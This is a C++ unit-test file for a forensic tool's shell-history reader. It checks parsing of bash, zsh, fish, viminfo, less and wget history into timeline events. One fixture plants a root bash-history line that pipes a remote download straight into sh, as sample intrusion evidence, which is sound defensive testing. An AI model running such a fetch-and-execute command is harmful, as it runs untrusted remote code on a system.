// SPDX-License-Identifier: Apache-2.0
#include "artifact/shell_history/reader.h"

#include <gmock/gmock.h>

#include "artifact/shell_history/parse.h"
#include "artifact/test_support.h"

namespace ekshume::artifact::shell_history {
namespace {

using namespace artifact::testing;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

std::vector<std::string> Texts(const Commands& commands) {
  std::vector<std::string> texts;
  for (const Command& command : commands) {
    texts.push_back((command.time ? std::to_string(command.time->seconds) : std::string("-")) +
                    " " + command.text);
  }
  return texts;
}

TEST(ParseBashTest, WithoutTimes) {
  const Commands commands = ParseBash("ls -la\n\nid\n");
  EXPECT_THAT(Texts(commands), ElementsAre("- ls -la", "- id"));
  EXPECT_EQ(commands[1].offset, 8U);
}

TEST(ParseBashTest, WithTimesCommandsSpanLines) {
  const Commands commands =
      ParseBash("#1700000000\ncat <<E >x\nhi\nE\n#1700000005\nid\n#no time\n#1700000009\n");
  EXPECT_THAT(Texts(commands),
              ElementsAre("1700000000 cat <<E >x\nhi\nE", "1700000005 id\n#no time"));
  EXPECT_EQ(commands[1].offset, 28U);
}

TEST(ParseBashTest, TimesThatBeganLater) {
  EXPECT_THAT(Texts(ParseBash("a\n#1700000000\nb\nc\n")),
              ElementsAre("- a", "1700000000 b", "- c"));
}

TEST(ParseZshTest, ExtendedAndPlain) {
  const Commands commands = ParseZsh(
      ": 1700000000:12;for i in 1 2\\\ndo id; done\nplain\n: 1700000001:0;echo \x83\xa4x\n: "
      "not:x\n");
  EXPECT_THAT(Texts(commands), ElementsAre("1700000000 for i in 1 2\ndo id; done", "- plain",
                                           "1700000001 echo \x84x", "- : not:x"));
  EXPECT_EQ(commands[0].duration_seconds, 12);
}

TEST(ParseFishTest, UnescapesAndTakesTimes) {
  EXPECT_THAT(Texts(ParseFish("- cmd: echo a\\nb \\\\ c\n  when: 1700000000\n  paths:\n    - /x\n"
                              "- cmd: id\n")),
              ElementsAre("1700000000 echo a\nb \\ c", "- id"));
}

TEST(ParseEditlineTest, DecodesOctal) {
  EXPECT_THAT(Texts(ParseEditline("_HiStOrY_V2_\nselect\\0401\\04\n")),
              ElementsAre("- select 1\\04"));
  EXPECT_THAT(Texts(ParseEditline("select\\0401\x01;\n")), ElementsAre("- select\\0401\n;"));
}

TEST(ParseLessTest, TellsSearchesFromCommands) {
  EXPECT_THAT(Texts(ParseLess(".less-history-file:\n.search\n\"token\n.shell\n\"id\n")),
              ElementsAre("- /token", "- !id"));
}

TEST(ParseViminfoTest, TakesTimedLines) {
  EXPECT_THAT(
      Texts(ParseViminfo(":wq\n|2,0,1700000000,,\"wq\"\n? \n|2,1,1700000001,47,\"pass\\\"w\"\n"
                         "|4,48,12,3,1700000002,\"/etc/passwd\"\n|3,0,1,0,1,0,17,\"x\"\n")),
      ElementsAre("1700000000 :wq", "1700000001 /pass\"w", "1700000002 vim /etc/passwd"));
}

TEST(ParseWgetHstsTest, TakesHosts) {
  EXPECT_THAT(Texts(ParseWgetHsts("# HSTS 1.0 Known Hosts database\n"
                                  "files.example\t0\t1\t1700000000\t31536000\nbroken\n")),
              ElementsAre("1700000000 files.example"));
}

TEST(ShellHistoryTest, SaysWhoTypedWhatAndWhen) {
  Tree tree;
  tree.AddFile("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nweb:x:33:33::/var/www:/bin/sh\n");
  tree.AddFileAt("root/.bash_history", "#1700000000\ncurl http://203.0.113.9/x | sh\n", 1700000100);
  tree.AddFileAt("var/www/.ash_history", "id\n", 1700000200);
  tree.AddFileAt("var/www/.wget-hsts", "files.example 0 0 1700000003 60\n", 1700000200);
  tree.AddFileAt("root/.zsh_history", ": 1700000004:2;make\n", 1700000200);
  Collected collected;
  Read(ShellHistoryFormat(), HostView(tree), collected);
  ASSERT_EQ(collected.rows.size(), 4U);
  const Event& bash = collected.rows[0].event;
  EXPECT_EQ(bash.time, (Timestamp{1700000000, 0}));
  EXPECT_EQ(bash[Text::kTimeKind], "Start Time");
  EXPECT_EQ(bash[Text::kUserName], "root");
  EXPECT_EQ(bash[Text::kAction], "command");
  EXPECT_EQ(bash[Text::kProcess], "bash");
  EXPECT_EQ(bash[Text::kCommandLine], "curl http://203.0.113.9/x | sh");
  EXPECT_EQ(bash[Text::kMessage], "root typed in bash: curl http://203.0.113.9/x | sh");
  EXPECT_EQ(bash[Text::kPath], "/root/.bash_history");
  EXPECT_EQ(bash[Text::kTags], "");
  EXPECT_EQ(collected.rows[0].offset, 0U);
  EXPECT_EQ(collected.rows[1].event[Number::kDurationNs], 2000000000);
  const Event& ash = collected.rows[2].event;
  EXPECT_EQ(ash.time, std::nullopt);
  EXPECT_EQ(ash[Text::kTimeKind], "");
  EXPECT_EQ(ash[Text::kTags], "untimed");
  EXPECT_EQ(ash[Text::kMessage],
            "web typed in ash: id (no time; .ash_history was last written "
            "2023-11-14T22:16:40.000000000Z)");
  const Event& host = collected.rows[3].event;
  EXPECT_EQ(host[Text::kAction], "visited");
  EXPECT_EQ(host[Text::kObjectName], "files.example");
  EXPECT_EQ(host[Text::kMessage], "web reached files.example with wget");
  EXPECT_THAT(collected.diagnostics.Sorted(), IsEmpty());
}

TEST(ShellHistoryTest, EveryDamage) {
  ReadEveryDamage(ShellHistoryFormat(), "root/.zsh_history",
                  ": 1700000000:12;for i\\\ndo \x83\xa4\n: 1:0;x\n");
  ReadEveryDamage(ShellHistoryFormat(), "root/.bash_history", "#1700000000\na\nb\n#17\nc");
  ReadEveryDamage(ShellHistoryFormat(), "root/.viminfo",
                  "|2,1,1700,47,\"p\\\"w\"\n|4,1,2,3,4,\"f\"");
  ReadEveryDamage(ShellHistoryFormat(), "root/.mysql_history", "_HiStOrY_V2_\na\\040b\n\\04");
  ReadEveryDamage(ShellHistoryFormat(), "root/.local/share/fish/fish_history",
                  "- cmd: a\\n\\\\\n  when: 17\n");
}

}  // namespace
}  // namespace ekshume::artifact::shell_history
